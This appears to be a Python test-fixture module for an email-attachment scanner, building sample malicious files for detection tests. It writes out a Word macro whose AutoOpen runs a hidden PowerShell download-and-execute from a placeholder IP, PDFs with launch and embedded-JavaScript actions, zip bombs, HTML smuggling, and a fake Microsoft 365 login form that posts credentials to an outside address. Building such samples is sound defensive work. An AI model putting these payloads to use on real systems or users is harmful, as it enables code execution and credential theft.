"""Files the attachment tests build themselves: no malware, no corpus data in the repo."""

from __future__ import annotations

import io
import shutil
import subprocess
import tarfile
import tempfile
import zipfile
import zlib
from pathlib import Path

from mailmoat.evaluation.clamd import EICAR  # noqa: F401  (fx.EICAR)
from mailmoat.evaluation.messages import (  # noqa: F401  (fx.pdf_plain() etc.)
    pdf,
    pdf_plain,
    zip_bytes,
)

# A minimal PE header: enough for libmagic to call it a Windows program.
PE = (b"MZ" + b"\x90\x00" * 29 + b"\x80\x00\x00\x00" + b"\x00" * (0x80 - 64)
      + b"PE\x00\x00\x4c\x01" + b"\x00" * 300)

# Word-style VBA with an auto-exec entry point and typical downloader keywords.
MACRO_VBA = b"""Attribute VB_Name = "ThisDocument"
Sub AutoOpen()
    Dim s As String
    s = "powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"
    Set sh = CreateObject("WScript.Shell")
    sh.Run s, 0
    Shell "cmd.exe /c calc.exe", vbHide
End Sub
"""

BENIGN_VBA = b"""Attribute VB_Name = "Module1"
Function AddTwo(x As Integer) As Integer
    AddTwo = x + 2
End Function
"""


def zip_bomb(uncompressed: int = 32 * 1024 * 1024, name: str = "data.bin") -> bytes:
    """Zeros streamed through ZIP_DEFLATED: about 1000:1, never held whole in memory."""
    buf = io.BytesIO()
    zero = bytes(1024 * 1024)
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        with zf.open(name, "w", force_zip64=True) as fh:
            for _ in range(uncompressed // len(zero)):
                fh.write(zero)
    return buf.getvalue()


def gzip_bomb(uncompressed: int = 32 * 1024 * 1024) -> bytes:
    comp = zlib.compressobj(1, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    zero = bytes(1024 * 1024)
    out = [comp.compress(zero) for _ in range(uncompressed // len(zero))]
    out.append(comp.flush())
    return b"".join(out)


def nested_zip(depth: int, leaf: tuple[str, bytes] = ("readme.txt", b"hello")) -> bytes:
    data = zip_bytes({leaf[0]: leaf[1]})
    for i in range(depth - 1):
        data = zip_bytes({f"level{depth - 1 - i}.zip": data})
    return data


def encrypted_zip(files: dict[str, bytes], password: str = "infected") -> bytes:
    """With Info-ZIP's `zip -P` when installed; otherwise the same flag set by hand (the
    walker only needs general-purpose bit 0, which is what marks real encryption)."""
    if shutil.which("zip"):
        with tempfile.TemporaryDirectory() as d:
            for name, data in files.items():
                (Path(d) / name).write_bytes(data)
            subprocess.run(["zip", "-q", "-P", password, "out.zip", *files], cwd=d, check=True,
                           timeout=30)
            return (Path(d) / "out.zip").read_bytes()
    raw = bytearray(zip_bytes(files, zipfile.ZIP_STORED))
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = raw.find(sig)
        while pos >= 0:
            raw[pos + off] |= 1
            pos = raw.find(sig, pos + 4)
    return bytes(raw)


def seven_zip(files: dict[str, bytes], password: str | None = None,
              header_encryption: bool = False) -> bytes:
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w", password=password,
                            header_encryption=header_encryption) as z:
        for name, data in files.items():
            z.writestr(data, name)
    return buf.getvalue()


def tar_bytes(files: dict[str, bytes], mode: str = "w:gz") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tf:
        for name, data in files.items():
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            tf.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def pdf_open_action_js() -> bytes:
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
                b"<< /S /JavaScript /JS (app.alert('hello');) >>"])


def pdf_hidden_in_object_stream() -> bytes:
    """The JavaScript action lives in a FlateDecode object stream, with an escaped name."""
    inner = b"<< /S /J#61vaScript /JS (this.exportDataObject({cName: 'a.exe', nLaunch: 2})) >>"
    packed = zlib.compress(inner)
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
                b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
                % len(packed) + packed + b"\nendstream",
                b"<< /Type /EmbeddedFile /Length 3 >>\nstream\nabc\nendstream"])


def pdf_with_attachment(name: bytes, data: bytes) -> bytes:
    """A PDF carrying a file in its EmbeddedFiles name tree (as "attach file" tools write)."""
    packed = zlib.compress(data)
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(%s) 4 0 R]"
                b" >> >> >>" % name,
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
                b"<< /Type /Filespec /F (%s) /UF (%s) /EF << /F 5 0 R >> >>" % (name, name),
                b"<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d >>\nstream\n"
                % len(packed) + packed + b"\nendstream"])


def pdf_launch() -> bytes:
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
                b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>"])


PHISH_HTML = b"""<!doctype html><html><head><title>Sign in</title></head><body>
<h1>Microsoft 365</h1><p>Your session expired. Sign in to view the document.</p>
<form action="https://203.0.113.7/collect.php" method="post">
<input type="email" name="login"><input type="password" name="passwd">
<button type="submit">Sign in</button></form></body></html>"""

SCRIPT_HTML = b"""<html><body><p>Loading your invoice...</p>
<script>var b = new Blob([atob('SGVsbG8=')]); var a = document.createElement('a');
a.href = URL.createObjectURL(b); a.download = 'invoice.iso'; a.click();</script></body></html>"""

OOXML_CONTENT_TYPES = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                       b'package/2006/content-types"><Default Extension="xml" '
                       b'ContentType="application/xml"/></Types>')


def docx_plain() -> bytes:
    return zip_bytes({"[Content_Types].xml": OOXML_CONTENT_TYPES,
                      "word/document.xml": b"<w:document/>"})


def docx_encrypted(password: str = "secret") -> bytes:
    """A real agile-encrypted OOXML (OLE with EncryptionInfo/EncryptedPackage) made by
    msoffcrypto-tool; a low spin count keeps the test fast."""
    from msoffcrypto.method.ecma376_agile import ECMA376Agile

    return bytes(ECMA376Agile.encrypt(password, io.BytesIO(docx_plain()), spin_count=1000))


